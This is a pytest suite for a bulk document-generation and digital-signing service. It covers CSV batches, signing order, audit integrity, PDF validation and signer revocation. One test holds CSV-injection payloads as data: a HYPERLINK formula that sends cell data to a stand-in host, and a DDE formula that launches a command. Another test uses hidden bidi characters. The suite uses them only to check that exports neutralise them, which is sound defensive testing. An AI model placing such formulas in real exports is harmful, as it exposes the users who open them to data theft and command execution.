"""Bulk work through the running service: batches from a staff list, bulk signing, the ZIP."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import time
import zipfile
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import anyio
import httpx
import psycopg
import pytest
from cryptography import x509

from docgen.batches.archive import spreadsheet_safe
from docgen.registry import audit
from docgen.registry.db import Database
from signing.validate.validation import validate_pdf
from tests.conftest import PIN, People, Service, SignerAccount, pakta_data
from tests.pdftools import pdfsig
from tests.test_staff_list import dimension, far_cell_xlsx, sheet_xml_changed
from tests.test_templates_content import BA, nip_of, peserta

BA_TEMPLATE = "berita-acara-pelantikan"
PEOPLE_COLUMNS = ["peserta.nama", "peserta.nip", "peserta.pangkat", "peserta.jabatan"]
# The inaugurating official has no NIP: a NIK identifies him (a man born 12 March 1970).
OFFICIAL_NIK = "3515011203700417"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def staff_csv(header: list[str], rows: list[list[object]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode()


def inauguration_csv(count: int) -> bytes:
    """One berita acara per person inaugurated (the same official and witnesses sign all)."""
    fields = [k for k in BA if k != "peserta"]
    people = peserta(count)
    return staff_csv(
        fields + PEOPLE_COLUMNS,
        [[BA[k] for k in fields] + list(person.values()) for person in people],
    )


def pakta_csv(rows: list[dict[str, object]]) -> bytes:
    header = list(rows[0])
    return staff_csv(header, [[row[k] for k in header] for row in rows])


def post_batch(
    client: httpx.Client,
    content: bytes,
    template: str = BA_TEMPLATE,
    *,
    signers: dict[str, str] | None = None,
    dry_run: bool = False,
    headers: dict[str, str] | None = None,
) -> httpx.Response:
    return client.post(
        "/api/v1/batches",
        params={"dry_run": "true"} if dry_run else None,
        data={"template": template, "signers": json.dumps(signers or {})},
        files={"file": ("daftar.csv", content, "text/csv")},
        headers=headers,
    )


def wait_for(
    client: httpx.Client, batch_id: str, done: Any, timeout: float = 300
) -> dict[str, Any]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        progress = client.get(f"/api/v1/batches/{batch_id}", params={"documents": "false"})
        batch: dict[str, Any] = progress.json()
        if done(batch):
            return dict(client.get(f"/api/v1/batches/{batch_id}").json())
        time.sleep(0.2)
    raise AssertionError(f"batch {batch_id} did not get there: {batch}")


def generated(client: httpx.Client, batch_id: str) -> dict[str, Any]:
    return wait_for(client, batch_id, lambda b: b["status"] == "selesai")


def bulk_sign(signer: SignerAccount, batch_id: str, role: str) -> dict[str, Any]:
    """The signer signs ``role`` of the batch with their own account; the signing once over."""
    response = signer.sign_batch(batch_id, role)
    assert response.status_code == 202, response.text
    signing_id = response.json()["id"]
    batch = wait_for(
        signer.client,
        batch_id,
        lambda b: next(s for s in b["signings"] if s["id"] == signing_id)["status"] != "berjalan",
    )
    return next(s for s in batch["signings"] if s["id"] == signing_id)


async def audit_chain_break(service: Service) -> int | None:
    """The id of the first audit entry that breaks the chain, if any."""
    db = Database(service.database_url)
    try:
        async with db.session() as session:
            return await audit.verify_chain(session)
    finally:
        await db.close()


def registry(service: Service) -> psycopg.Connection[Any]:
    return service.registry()


def registry_rows(service: Service, sql: str, docs: list[dict[str, Any]]) -> list[Any]:
    """The rows of ``sql`` with the documents' ids in place of ``{ids}``."""
    ids = [d["id"] for d in docs]
    with registry(service) as db:
        return db.execute(sql.format(ids=",".join(["%s"] * len(ids))), ids).fetchall()


@pytest.fixture(scope="module")
def inauguration_signers(people: People) -> dict[str, SignerAccount]:
    """The two witnesses (bound by the NIP in every row) and the inaugurating official (bound
    by the operator's choice: the rows name no number for him), each with their own account."""
    return {
        "saksi_1": people.signer(BA["nip_saksi_1"], name=BA["nama_saksi_1"]),
        "saksi_2": people.signer(BA["nip_saksi_2"], name=BA["nama_saksi_2"]),
        "pejabat_pelantik": people.signer(
            nik=OFFICIAL_NIK,
            name=BA["nama_pejabat_pelantik"],
            pangkat=None,
            jabatan="Bupati Sidoarjo",
        ),
    }


def official_of(signers: dict[str, SignerAccount]) -> dict[str, str]:
    """The ``signers`` form field binding the official of every row."""
    return {"pejabat_pelantik": signers["pejabat_pelantik"].signer_id}


@pytest.fixture(scope="module")
def signed_batch(
    people: People, inauguration_signers: dict[str, SignerAccount]
) -> Iterator[dict[str, Any]]:
    """120 berita acara made by the operator from one CSV, signed by the witnesses and then
    the official, each with their own account."""
    client = people.operator.client
    response = post_batch(client, inauguration_csv(120), signers=official_of(inauguration_signers))
    assert response.status_code == 202, response.text
    accepted = response.json()
    assert accepted["total"] == 120 and accepted["status"] in ("antre", "berjalan")
    made = generated(client, accepted["id"])
    signings = [
        bulk_sign(inauguration_signers[role], accepted["id"], role)
        for role in ("saksi_2", "saksi_1", "pejabat_pelantik")  # witnesses in either order
    ]
    yield {"made": made, "signings": signings, "final": generated(client, accepted["id"])}


def test_a_batch_of_120_rows_makes_120_signed_documents(
    client: httpx.Client, signed_batch: dict[str, Any], service: Service
) -> None:
    made = signed_batch["made"]
    assert (made["done"], made["failed"], made["pending"]) == (120, 0, 0)
    assert made["errors"] == []
    for signing in signed_batch["signings"]:
        assert (signing["status"], signing["done"], signing["failed"]) == ("selesai", 120, 0)

    final = signed_batch["final"]
    docs = final["documents"]
    assert [d["row"] for d in docs] == list(range(2, 122))
    numbers = [d["number"] for d in docs]
    assert len(set(numbers)) == 120
    # Reserved in row order: consecutive numbers of one sequence.
    sequence = [int(n.split("/")[1]) for n in numbers]
    assert sequence == list(range(sequence[0], sequence[0] + 120))
    assert {d["status"] for d in docs} == {"sah"} and all(d["pending_roles"] == [] for d in docs)

    for doc in docs:
        code = doc["verify_url"].rsplit("/", 1)[1]
        view = client.get(f"/api/v1/verify/{code}").json()
        assert view["status"] == "sah" and view["document"]["number"] == doc["number"]
        assert [s["role"] for s in view["signatures"]] == ["saksi_1", "saksi_2", "pejabat_pelantik"]

    # Every document made and every signature is in the audit chain, which is intact.
    actions = registry_rows(
        service,
        "SELECT action, COUNT(*), COUNT(DISTINCT entity_id) FROM audit_log"
        " WHERE entity_id IN ({ids}) GROUP BY action ORDER BY action",
        docs,
    )
    assert actions == [("document.created", 120, 120), ("document.signed", 360, 120)]
    assert anyio.run(audit_chain_break, service) is None


def test_every_bulk_signed_pdf_validates(
    client: httpx.Client, signed_batch: dict[str, Any], service: Service, tmp_path: Path
) -> None:
    root_pem = client.get("/api/v1/trust/ca.pem").content
    trust = [x509.load_pem_x509_certificate(root_pem)]
    crls = [x509.load_der_x509_crl(client.get("/api/v1/trust/crl").content)]
    docs = signed_batch["final"]["documents"]
    people = peserta(120)
    for doc in docs:
        pdf = client.get(f"/api/v1/documents/{doc['id']}/pdf").content
        report = validate_pdf(pdf, trust, crls)
        assert report.valid and report.level == "B-LTA", (doc["number"], report)
        assert len(report.signatures) == 3
    # The independent validator on the first, the last and one in the middle.
    for doc in (docs[0], docs[59], docs[-1]):
        path = tmp_path / f"{doc['id']}.pdf"
        path.write_bytes(client.get(f"/api/v1/documents/{doc['id']}/pdf").content)
        workdir = tmp_path / doc["id"]
        workdir.mkdir()
        assert pdfsig(path, root_pem, workdir).count("Signature is Valid") >= 3
        person = people[doc["row"] - 2]
        assert person["nama"] in json.dumps(client.get(f"/api/v1/documents/{doc['id']}").json())


def test_the_two_witnesses_sign_a_batch_at_the_same_time(
    client: httpx.Client,
    inauguration_signers: dict[str, SignerAccount],
    service: Service,
    tmp_path: Path,
) -> None:
    """Both witnesses sign in the first turn, and may start together: each signing finds the
    other's chunks taken, leaves them for later and signs them in chunks when they are free,
    so both sign every document, whole, in a few packs each (not one per document)."""
    rows = 160  # four chunks of 40, two of them in flight per signing
    accepted = post_batch(
        client, inauguration_csv(rows), signers=official_of(inauguration_signers)
    ).json()
    docs = generated(client, accepted["id"])["documents"]
    assert len(docs) == rows
    started = [
        inauguration_signers[role].sign_batch(accepted["id"], role)
        for role in ("saksi_1", "saksi_2")
    ]
    assert [s.status_code for s in started] == [202, 202], [s.text for s in started]
    ids = [s.json()["id"] for s in started]

    def ended(batch: dict[str, Any]) -> bool:
        return all(s["status"] != "berjalan" for s in batch["signings"] if s["id"] in ids)

    final = wait_for(client, accepted["id"], ended)
    for signing in (s for s in final["signings"] if s["id"] in ids):
        assert (signing["status"], signing["done"], signing["failed"]) == ("selesai", rows, 0)
    assert all(d["pending_roles"] == ["pejabat_pelantik"] for d in final["documents"])
    # One pack per chunk a signing signed: the documents the other signing held were signed
    # together once free, not each on its own (that was up to 80 packs of one document).
    packs = [o.object_name for o in service.stored_objects(f"batches/{accepted['id']}/ttd-")]
    for role in ("saksi_1", "saksi_2"):
        assert 1 <= sum(f"/ttd-{role}-" in name for name in packs) <= 12, packs
    root_pem = client.get("/api/v1/trust/ca.pem").content
    trust = [x509.load_pem_x509_certificate(root_pem)]
    crls = [x509.load_der_x509_crl(client.get("/api/v1/trust/crl").content)]
    for doc in (docs[0], docs[rows // 2], docs[-1]):
        pdf = client.get(f"/api/v1/documents/{doc['id']}/pdf").content
        report = validate_pdf(pdf, trust, crls)
        assert report.valid and len(report.signatures) == 2, (doc["number"], report)
        path = tmp_path / f"{doc['id']}.pdf"
        path.write_bytes(pdf)
        (workdir := tmp_path / doc["id"]).mkdir()
        assert pdfsig(path, root_pem, workdir).count("Signature is Valid") == 2


def test_each_chunk_of_revisions_is_one_pack_object_holding_them_as_issued(
    client: httpx.Client, signed_batch: dict[str, Any], service: Service
) -> None:
    batch = signed_batch["final"]
    docs = batch["documents"]
    objects = service.stored_objects(f"batches/{batch['id']}/")
    names = sorted(o.object_name.rsplit("/", 1)[1] for o in objects)
    # The staff list; 120 rows made in chunks of 100, each chunk's pack named by its chunk and
    # attempt; each role signed in chunks of 40 (packs named with a random part).
    assert names[:3] == ["daftar.csv", "dibuat-0000-1.zip", "dibuat-0001-1.zip"]
    assert [name.rsplit("-", 1)[0] for name in names[3:]] == [
        *["ttd-pejabat_pelantik"] * 3,
        *["ttd-saksi_1"] * 3,
        *["ttd-saksi_2"] * 3,
    ]
    assert not any(service.stored_objects(f"documents/{d['id']}/") for d in docs)

    sources = registry_rows(
        service,
        "SELECT object_key, byte_offset FROM revisions WHERE seq = 1 AND document_id IN ({ids})",
        docs,
    )
    by_pack = {key: sum(1 for k, _ in sources if k == key) for key, _ in sources}
    assert sorted(by_pack.values()) == [20, 100]
    assert len(set(sources)) == 120  # each at its own offset

    raw = service.object_store()
    packs = {o.object_name: raw.get_object("docgen", o.object_name).read() for o in objects}
    for doc in (docs[0], docs[99], docs[100], docs[-1]):
        revisions = client.get(f"/api/v1/documents/{doc['id']}").json()["revisions"]
        assert [r["kind"] for r in revisions] == ["source", "prepared", *["signed"] * 3, "lta"]
        issued = [
            client.get(f"/api/v1/documents/{doc['id']}/revisions/{r['seq']}").content
            for r in revisions
        ]
        assert [hashlib.sha256(b).hexdigest() for b in issued] == [r["sha256"] for r in revisions]
        # Any ZIP tool finds them in the packs, under the document's id, byte for byte; the
        # official's signed revision is the beginning of the B-LTA one that extends it.
        members = {}
        for key, data in packs.items():
            if key.endswith(".zip"):
                with zipfile.ZipFile(io.BytesIO(data)) as archive:
                    for name in archive.namelist():
                        if name.startswith(f"{doc['id']}/"):
                            members[name.split("/", 1)[1]] = archive.read(name)
        assert sorted(members) == [
            "01-source.docx",
            "02-prepared.pdf",
            "03-signed-saksi_2.pdf",  # the witnesses signed in this order
            "04-signed-saksi_1.pdf",
            "06-lta.pdf",
        ]
        assert [members[n] for n in sorted(members)] == [*issued[:4], issued[5]]
        assert issued[5].startswith(issued[4]) and len(issued[5]) > len(issued[4])


def test_zip_holds_every_current_pdf_and_a_manifest_matching_the_registry(
    client: httpx.Client, signed_batch: dict[str, Any]
) -> None:
    batch = signed_batch["final"]
    response = client.get(batch["zip_url"])
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    names = archive.namelist()
    assert names[0] == "daftar.csv" and len(names) == 121
    listing = list(csv.DictReader(io.StringIO(archive.read("daftar.csv").decode("utf-8-sig"))))
    assert len(listing) == 120
    people = peserta(120)
    for entry, doc, person in zip(listing, batch["documents"], people, strict=True):
        registered = client.get(f"/api/v1/documents/{doc['id']}").json()
        pdf = archive.read(entry["berkas"])
        assert hashlib.sha256(pdf).hexdigest() == entry["sha256"]
        assert entry["sha256"] == registered["revisions"][-1]["sha256"]
        assert entry["nomor"] == registered["number"] == doc["number"]
        assert entry["verify_url"] == registered["verify_url"]
        assert (entry["nama"], entry["nip"]) == (person["nama"], person["nip"])
        assert entry["status"] == "sah"


# Staff-list cells a spreadsheet would run as formulas (OWASP, "CSV Injection").
FORMULAS = [
    '=HYPERLINK("http://contoh.test/?d="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+62 812 3456 7890",
    "-2+3",
    "@SUM(1+1)",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_the_zip_listing_neutralises_formulas_the_staff_list_carried(
    client: httpx.Client, people: People
) -> None:
    people.signer(nip_of(730))
    rows = [pakta_data(nip=nip_of(730), nama=name) for name in FORMULAS]
    response = post_batch(client, pakta_csv(rows), "pakta-integritas")
    assert response.status_code == 202, response.text
    batch = generated(client, response.json()["id"])
    assert batch["done"] == len(FORMULAS), batch["errors"]

    archive = zipfile.ZipFile(io.BytesIO(client.get(batch["zip_url"]).content))
    listing = list(csv.reader(io.StringIO(archive.read("daftar.csv").decode("utf-8-sig"))))
    assert [row[2] for row in listing[1:]] == [f"'{name}" for name in FORMULAS]
    assert not [cell for row in listing for cell in row if cell.startswith(FORMULA_START)]
    # The documents themselves keep the names as written.
    for doc, name in zip(batch["documents"], FORMULAS, strict=True):
        assert client.get(f"/api/v1/documents/{doc['id']}").json()["data"]["nama"] == name


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"])
def test_a_cell_starting_like_a_formula_gets_a_quote(cell: str) -> None:
    assert spreadsheet_safe(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["Budi", "198609262015051001", "a=b", "", 7])
def test_other_cells_stay_as_they_are(cell: object) -> None:
    assert spreadsheet_safe(cell) == str(cell)


def test_bulk_signing_refusals(
    client: httpx.Client, inauguration_signers: dict[str, SignerAccount]
) -> None:
    response = post_batch(client, inauguration_csv(3), signers=official_of(inauguration_signers))
    assert response.status_code == 202, response.text
    batch_id = response.json()["id"]
    generated(client, batch_id)
    witness_1 = inauguration_signers["saksi_1"]
    witness_2 = inauguration_signers["saksi_2"]
    official = inauguration_signers["pejabat_pelantik"]

    wrong = witness_1.sign_batch(batch_id, "saksi_1", pin="975318")
    assert wrong.status_code == 403 and wrong.json()["error"] == "WrongPin"
    # The official must wait for both witnesses: nothing to sign yet.
    early = official.sign_batch(batch_id, "pejabat_pelantik")
    assert early.status_code == 409 and "Belum gilirannya" in early.json()["detail"]
    # A witness's role is bound to the NIP in the rows: the other witness cannot sign it, not
    # even naming the bound signer (the caller is the signer; a signer_id is not heard).
    other = witness_2.client.post(
        f"/api/v1/batches/{batch_id}/signatures",
        json={"role": "saksi_1", "signer_id": witness_1.signer_id, "pin": PIN},
    )
    assert other.status_code == 409 and "Penanda tangan tidak sesuai" in other.json()["detail"]
    # Refused before the PIN is tried: the answer tells nothing of it.
    other_wrong_pin = witness_2.sign_batch(batch_id, "saksi_1", pin="975318")
    assert (other_wrong_pin.status_code, other_wrong_pin.json()["detail"]) == (
        other.status_code,
        other.json()["detail"],
    )
    # Nobody signs for a signer: not the operator who made the batch.
    operator = client.post(
        f"/api/v1/batches/{batch_id}/signatures",
        json={"role": "saksi_1", "signer_id": witness_1.signer_id, "pin": PIN},
    )
    assert operator.status_code == 403
    assert witness_1.sign_batch("nope", "saksi_1").status_code == 404
    batch = client.get(f"/api/v1/batches/{batch_id}").json()
    assert batch["signings"] == []
    assert all(d["pending_roles"] == ["saksi_1", "saksi_2", "pejabat_pelantik"]
               for d in batch["documents"])  # fmt: skip
    # The signer the rows name signs them, with their own account.
    signing = bulk_sign(witness_1, batch_id, "saksi_1")
    assert (signing["status"], signing["done"], signing["signer_id"]) == (
        "selesai",
        3,
        witness_1.signer_id,
    )


def test_dry_run_reports_every_bad_row_and_creates_nothing(
    client: httpx.Client, service: Service, people: People
) -> None:
    people.signer(str(pakta_data()["nip"]))  # the good row's signer
    rows = [
        pakta_data(nama="Baik Sekali"),
        pakta_data(nip="198613262015051001"),  # month 13
        pakta_data(jabatan=""),
        pakta_data(tanggal="31/02/2024"),
        pakta_data(tanggal="kemarin", pangkat="III/e"),
        pakta_data(nip=nip_of(710)),  # a good NIP nobody is enrolled with
    ]
    content = pakta_csv(rows)
    with registry(service) as db:
        before = db.execute("SELECT count(*) FROM batches").fetchone()[0]
        numbers_before = db.execute("SELECT * FROM number_sequences").fetchall()
    objects_before = len(service.stored_objects("batches/"))

    response = post_batch(client, content, "pakta-integritas", dry_run=True)
    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["total"], report["valid"], report["invalid"]) == (6, 1, 5)
    problems = {(p["row"], p["column"]): p["message"] for p in report["problems"]}
    assert set(problems) == {
        (3, "nip"),
        (4, "jabatan"),
        (5, "tanggal"),
        (6, "tanggal"),
        (6, "pangkat"),
        (7, "signers.pembuat_pernyataan"),
    }
    assert "tanggal lahir pada NIP" in problems[(3, "nip")]
    assert problems[(4, "jabatan")] == "wajib diisi"
    assert "2024-02-31 tidak ada" in problems[(5, "tanggal")]
    assert "TTTT-BB-HH" in problems[(6, "tanggal")]
    assert (
        f"tidak ada penanda tangan terdaftar dengan nomor induk {nip_of(710)}"
        in (problems[(7, "signers.pembuat_pernyataan")])
    )

    with registry(service) as db:
        assert db.execute("SELECT count(*) FROM batches").fetchone()[0] == before
        assert db.execute("SELECT * FROM number_sequences").fetchall() == numbers_before
    assert len(service.stored_objects("batches/")) == objects_before


def test_hidden_characters_in_cells_are_row_problems_and_make_nothing(
    client: httpx.Client, service: Service, people: People
) -> None:
    """A staff-list cell is document data: what the API refuses in a text field (a control,
    zero-width or bidi character, a line break in a one-line field) is its row's problem, named
    by row and column as the operator sees them."""
    people.signer(str(pakta_data()["nip"]))  # the good row's signer
    rows = [
        pakta_data(nama="Moch. Sya'roni, S.Sos."),
        pakta_data(nama="Budi\u200bSantoso"),
        pakta_data(jabatan="Kepala \u202eumU"),
        pakta_data(instansi="BKPSDM\x07"),
        pakta_data(nama="Sri\nWahyuni"),
    ]
    with registry(service) as db:
        before = db.execute("SELECT count(*) FROM batches").fetchone()[0]
    response = post_batch(client, pakta_csv(rows), "pakta-integritas", dry_run=True)
    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["total"], report["valid"], report["invalid"]) == (5, 1, 4)
    problems = {(p["row"], p["column"]): p["message"] for p in report["problems"]}
    hidden = "mengandung karakter kontrol atau tak tampak ({}) yang tidak diperbolehkan"
    assert problems == {
        (3, "nama"): hidden.format("U+200B"),
        (4, "jabatan"): hidden.format("U+202E"),
        (5, "instansi"): hidden.format("U+0007"),
        (6, "nama"): hidden.format("U+000A"),
    }
    # A list record's column (the people inaugurated), by the header the operator wrote.
    fields = [k for k in BA if k != "peserta"]
    person = peserta(1)[0]
    person["nama"] = "Ahmad\u2066Fauzi"
    content = staff_csv(
        fields + ["Pejabat yang dilantik.Nama", *PEOPLE_COLUMNS[1:]],
        [[BA[k] for k in fields] + list(person.values())],
    )
    response = post_batch(client, content, dry_run=True)
    assert response.status_code == 200, response.text
    [problem] = response.json()["problems"]
    assert problem == {
        "row": 2,
        "column": "Pejabat yang dilantik.Nama",
        "message": hidden.format("U+2066"),
    }
    with registry(service) as db:
        assert db.execute("SELECT count(*) FROM batches").fetchone()[0] == before


def test_a_real_run_makes_the_good_rows_and_reports_the_bad_ones(
    client: httpx.Client, people: People
) -> None:
    rows = [pakta_data(nip=nip_of(i), nama=f"Pegawai {i}") for i in range(600, 605)]
    rows[1]["nip"] = "12345"
    signers = {str(r["nip"]): people.signer(str(r["nip"]), name=r["nama"]) for r in rows[2:4]}
    signers[str(rows[0]["nip"])] = people.signer(str(rows[0]["nip"]), name=rows[0]["nama"])
    # The last row's NIP is valid, but nobody is enrolled with it: its role cannot be bound.
    response = post_batch(client, pakta_csv(rows), "pakta-integritas")
    assert response.status_code == 202
    batch = generated(client, response.json()["id"])
    assert (batch["total"], batch["done"], batch["failed"]) == (5, 3, 2)
    assert [(e["row"], e["column"]) for e in batch["errors"]] == [
        (3, "nip"),
        (6, "signers.pembuat_pernyataan"),
    ]
    assert [d["row"] for d in batch["documents"]] == [2, 4, 5]
    # Each document's role is bound, on acceptance, to the signer of its row's NIP.
    for doc in batch["documents"]:
        registered = client.get(f"/api/v1/documents/{doc['id']}").json()
        [slot] = registered["signers"]
        nip = registered["data"]["nip"]
        assert slot["assigned_signer_id"] == signers[nip].signer_id


def test_a_file_that_does_not_fit_the_template_is_refused_whole(
    client: httpx.Client, service: Service
) -> None:
    with registry(service) as db:
        before = db.execute("SELECT count(*) FROM batches").fetchone()[0]
    response = post_batch(client, b"nama,nomor_hp\nBudi,0812\n", "pakta-integritas")
    assert response.status_code == 422
    body = response.json()
    assert body["error"] == "StaffListInvalid"
    assert {"row": 1, "column": "nomor_hp", "message": "kolom tidak dikenal pada templat ini"} in (
        body["problems"]
    )
    for bad in (b"\x00\x01garbage", b"PK\x03\x04garbage"):
        assert post_batch(client, bad, "pakta-integritas").status_code == 422
    assert post_batch(client, b"nama\nBudi\n", "tidak-ada").status_code == 404
    unknown_signer = post_batch(
        client, pakta_csv([pakta_data()]), "pakta-integritas", signers={"pembuat_pernyataan": "x"}
    )
    assert unknown_signer.status_code == 422
    with registry(service) as db:
        assert db.execute("SELECT count(*) FROM batches").fetchone()[0] == before


def test_a_sheet_reaching_its_last_row_is_refused_at_once(
    client: httpx.Client, service: Service
) -> None:
    with registry(service) as db:
        before = db.execute("SELECT count(*) FROM batches").fetchone()[0]
    for content in (far_cell_xlsx(), sheet_xml_changed(far_cell_xlsx(), dimension(None))):
        response = client.post(
            "/api/v1/batches",
            data={"template": "pakta-integritas"},
            files={"file": ("daftar.xlsx", content, XLSX)},
        )
        assert response.status_code == 422, response.text
        body = response.json()
        assert body["error"] == "StaffListInvalid"
        assert body["detail"].startswith("Daftar terlalu besar: lembar kerja"), body
    with registry(service) as db:
        assert db.execute("SELECT count(*) FROM batches").fetchone()[0] == before


def test_idempotency_keys_make_retries_safe(
    client: httpx.Client, service: Service, people: People
) -> None:
    for i in (500, 502):
        people.signer(nip_of(i))  # the pembuat_pernyataan the documents are bound to
    body = {"template": "pakta-integritas", "data": pakta_data(nip=nip_of(500))}
    key = {"Idempotency-Key": "pakta-500-attempt"}
    first = client.post("/api/v1/documents", json=body, headers=key)
    again = client.post("/api/v1/documents", json=body, headers=key)
    assert first.status_code == again.status_code == 201, first.text
    assert again.json()["id"] == first.json()["id"]
    assert again.json()["number"] == first.json()["number"]
    assert again.headers["Idempotent-Replayed"] == "true"
    other = client.post(
        "/api/v1/documents", json={**body, "data": pakta_data(nip=nip_of(501))}, headers=key
    )
    assert other.status_code == 422 and other.json()["error"] == "IdempotencyKeyReused"
    bad_key = client.post("/api/v1/documents", json=body, headers={"Idempotency-Key": "a b"})
    assert bad_key.status_code == 400

    content = pakta_csv([pakta_data(nip=nip_of(502))])
    batch_key = {"Idempotency-Key": "daftar-502"}
    with registry(service) as db:
        before = db.execute("SELECT count(*) FROM batches").fetchone()[0]
    one = post_batch(client, content, "pakta-integritas", headers=batch_key)
    two = post_batch(client, content, "pakta-integritas", headers=batch_key)
    assert one.status_code == two.status_code == 202
    assert one.json()["id"] == two.json()["id"]
    with registry(service) as db:
        assert db.execute("SELECT count(*) FROM batches").fetchone()[0] == before + 1
    # A failed request frees its key: the corrected retry goes through.
    broken = post_batch(client, b"nama\n", "pakta-integritas", headers={"Idempotency-Key": "k-9"})
    assert broken.status_code == 422
    fixed = post_batch(client, content, "pakta-integritas", headers={"Idempotency-Key": "k-9"})
    assert fixed.status_code == 202 and fixed.json()["id"] != one.json()["id"]


def test_revoking_the_signer_stops_their_bulk_signing(client: httpx.Client, people: People) -> None:
    rows = 200
    name = "Dra. Wulan Sari Dewi"
    signer = people.signer(nip_of(720), fresh=True, name=name)
    content = pakta_csv([pakta_data(nip=nip_of(720), nama=name) for _ in range(rows)])
    accepted = post_batch(client, content, "pakta-integritas")
    assert accepted.status_code == 202, accepted.text
    batch_id = accepted.json()["id"]
    assert generated(client, batch_id)["done"] == rows

    started = signer.sign_batch(batch_id, "pembuat_pernyataan")
    assert started.status_code == 202, started.text
    signing_id = started.json()["id"]
    assert started.json()["total"] == rows

    def signing(batch: dict[str, Any]) -> dict[str, Any]:
        return dict(next(s for s in batch["signings"] if s["id"] == signing_id))

    # The first documents are signed: the admin revokes the signer while the rest are signed.
    under_way = signing(
        wait_for(
            client,
            batch_id,
            lambda b: signing(b)["done"] > 0 or signing(b)["status"] != "berjalan",
        )
    )
    assert under_way["status"] == "berjalan" and under_way["done"] < rows
    revoked = people.revoke_signer(signer.signer_id, "Diberhentikan dari jabatan")
    assert revoked.status_code == 200, revoked.text
    record = people.admin.client.get(f"/api/v1/signers/{signer.signer_id}").json()
    assert record["status"] == "dicabut"
    revoked_at = datetime.fromisoformat(record["revoked_at"])

    final = wait_for(client, batch_id, lambda b: signing(b)["status"] != "berjalan")
    stopped = signing(final)
    assert stopped["status"] == "dihentikan"
    assert under_way["done"] <= stopped["done"] < rows

    signed = 0
    for doc in final["documents"]:
        registered = client.get(f"/api/v1/documents/{doc['id']}").json()
        [slot] = registered["signers"]
        assert slot["assigned_signer_id"] == signer.signer_id
        view = client.get(f"/api/v1/verify/{registered['verify_code']}").json()
        [public] = view["signatures"]
        if slot["signed_at"] is None:
            # Not signed before the revocation, and never after.
            assert doc["pending_roles"] == ["pembuat_pernyataan"]
            assert public["valid"] is False and public["signed_at"] is None
            continue
        signed += 1
        signed_at = datetime.fromisoformat(slot["signed_at"])
        # Nothing is registered after the revocation ...
        assert signed_at < revoked_at, (doc["number"], signed_at, revoked_at)
        # ... and what came before stays valid, the public page says why.
        assert datetime.fromisoformat(public["signed_at"]) == signed_at
        assert datetime.fromisoformat(public["certificate_revoked_at"]) == revoked_at
        assert public["valid"] is True and "tetap sah" in public["note"], public
    assert signed == stopped["done"] and 0 < signed < rows

    # A revoked signer starts no new signing.
    again = signer.sign_batch(batch_id, "pembuat_pernyataan")
    assert again.status_code == 403 and again.json()["error"] == "CertificateRevoked"
